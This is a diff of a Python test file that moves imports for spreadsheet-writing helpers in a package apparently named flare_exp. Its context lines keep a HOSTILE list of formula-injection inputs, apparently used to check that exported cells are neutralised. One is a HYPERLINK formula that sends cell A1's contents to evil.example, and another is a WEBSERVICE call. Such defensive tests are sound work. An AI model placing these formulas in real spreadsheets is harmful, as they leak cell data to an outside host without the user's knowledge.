@@ -7,8 +7,8 @@ import zipfile
 from openpyxl import load_workbook
 
 from flare_exp.cells import csv_text
-from flare_exp.sheets import write_scored_sheet
-from flare_exp.sheets import write_sheet
+from flare_exp.reports.sheets import write_scored_sheet
+from flare_exp.reports.sheets import write_sheet
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=WEBSERVICE(\"http://x\")", "+1+1", "-2+3",
            "@SUM(A1:A2)"]
